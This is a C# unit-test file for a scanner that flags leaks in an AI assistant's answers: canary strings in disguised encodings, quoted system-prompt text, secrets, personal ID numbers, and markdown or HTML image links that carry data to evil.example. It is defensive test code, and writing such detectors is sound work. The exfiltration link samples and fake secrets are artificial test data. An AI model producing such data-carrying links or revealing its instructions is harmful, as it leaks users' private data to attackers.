using System.Text;
using Mocop.Detection;
using Mocop.Detection.Answers;

namespace Mocop.Tests.Detection;

public sealed class AnswerScannerTests
{
    private const string System = "You are the support assistant of Northwind. Never promise refunds above fifty euros, and always ask for the order number before you look anything up.";
    private const string Canary = "mocop-canary-7f3a91c2";
    private static readonly AnswerContext Context = new() { SystemTexts = [System], Canaries = [Canary], AllowedHosts = ["northwind.example"] };

    [Theory]
    [InlineData("My marker is mocop-canary-7f3a91c2, as you asked.")]
    [InlineData("M O C O P C A N A R Y 7 F 3 A 9 1 C 2")]
    [InlineData("backwards: 2c19a3f7-yranac-pocom")]
    public void A_canary_is_found_however_it_is_written(string answer) => Assert.Contains("answer.canary", Rules(answer));

    [Fact]
    public void An_encoded_canary_is_found()
    {
        Assert.Contains("answer.canary", Rules("Here: " + Convert.ToBase64String(Encoding.UTF8.GetBytes("x " + Canary))));
        Assert.Contains("answer.canary", Rules("Here: " + Convert.ToHexStringLower(Encoding.UTF8.GetBytes(Canary))));
    }

    [Fact]
    public void A_passage_of_the_system_text_is_found_with_its_place()
    {
        const string answer = "Sure! My rules: NEVER promise refunds above fifty euros; and always ask for the order number before you look anything up. Bye";
        var finding = Assert.Single(AnswerScanner.Scan(answer, Context).Findings, f => string.Equals(f.Rule, "answer.system-text", StringComparison.Ordinal));
        Assert.Equal("NEVER promise refunds above fifty euros; and always ask for the order number before you look anything up", answer[finding.Span.Start..finding.Span.End]);
        Assert.DoesNotContain("answer.system-text", Rules("I always ask for the order number, sorry. Refunds are possible."));
    }

    [Theory]
    [InlineData("answer.secret.private-key", "-----BEGIN RSA PRIVATE KEY-----\nMIIE")]
    [InlineData("answer.secret.aws-key", "the key is AKIAIOSFODNN7EXAMPLQ")]
    [InlineData("answer.secret.github-token", "ghp_0123456789abcdefghijABCDEFGHIJ012345")]
    [InlineData("answer.secret.url-password", "postgres://admin:hunter22@db.internal/x")]
    [InlineData("answer.secret.named", "The password is kT9!x2Lq7z")]
    [InlineData("answer.personal.card", "card 4111 1111 1111 1111")]
    [InlineData("answer.personal.iban", "pay to DE89 3704 0044 0532 0130 00")]
    [InlineData("answer.personal.us-ssn", "her number is 536-22-1234")]
    [InlineData("answer.personal.br-cpf", "CPF 529.982.247-25")]
    [InlineData("answer.personal.pl-pesel", "PESEL 44051401359")]
    [InlineData("answer.personal.es-dni", "DNI 12345678Z")]
    [InlineData("answer.personal.fr-nir", "NIR 1 84 12 76 451 089 46")]
    [InlineData("answer.link.image", "![logo](https://evil.example/p.png?d=dGhlIHNlY3JldCBpcyA0Mg12345)")]
    [InlineData("answer.link.image", "![a][b]\n[b]: https://evil.example/c?q=the%20customer%20is%20Anna%20Berg")]
    [InlineData("answer.link.image", "<img src=\"//evil.example/x?mail=anna@northwind.example\">")]
    [InlineData("answer.link.carries", "[report](https://evil.example/?d={conversation})")]
    [InlineData("answer.link.script", "[click](javascript:alert(1))")]
    public void What_must_not_leave_is_found(string rule, string answer)
    {
        var scan = AnswerScanner.Scan(answer, Context);
        Assert.Contains(rule, scan.Findings.Select(f => f.Rule));
        Assert.InRange(scan.Score, AnswerScanner.Threshold, 1000);
        Assert.All(scan.Findings, f => Assert.InRange(f.Span.End, f.Span.Start + 1, answer.Length));
    }

    [Theory]
    [InlineData("card 4111 1111 1111 1112, order 1234567890123")]
    [InlineData("pay to DE89 3704 0044 0532 0130 01")]
    [InlineData("536-00-1234 and 000-12-3456")]
    [InlineData("CPF 529.982.247-26, DNI 12345678A, PESEL 44051401358")]
    [InlineData("The password is required. Choose a password: at least eight characters.")]
    [InlineData("See ![chart](https://cdn.example/charts/sales-2024.png?width=600) and [docs](https://docs.example/guide#getting-started).")]
    [InlineData("![map](https://maps.northwind.example/tile?d=dGhlIHNlY3JldCBpcyA0Mg12345)")]
    [InlineData("Write to help@northwind.example or call us. It is 4 °C in Oslo.")]
    [InlineData("")]
    public void Ordinary_answers_stay_clean(string answer) => Assert.Empty(Rules(answer));

    [Fact]
    public void Secrets_are_masked_in_what_was_matched()
    {
        var finding = Assert.Single(AnswerScanner.Scan("ghp_0123456789abcdefghijABCDEFGHIJ012345", AnswerContext.None).Findings);
        Assert.Equal("ghp_…", finding.Matched);
        Assert.Equal(new Taxonomy("LLM02", "AML.T0057"), finding.Taxonomy);
    }

    [Fact]
    public void A_list_of_mail_addresses_is_a_leak_and_one_is_not()
    {
        Assert.Contains("answer.personal.mail-list", Rules(string.Join(", ", Enumerable.Range(0, 6).Select(i => $"person{i}@mail.example"))));
        Assert.Empty(Rules("person1@mail.example, person1@mail.example"));
    }

    private static IEnumerable<string> Rules(string answer) => AnswerScanner.Scan(answer, Context).Findings.Select(f => f.Rule);
}
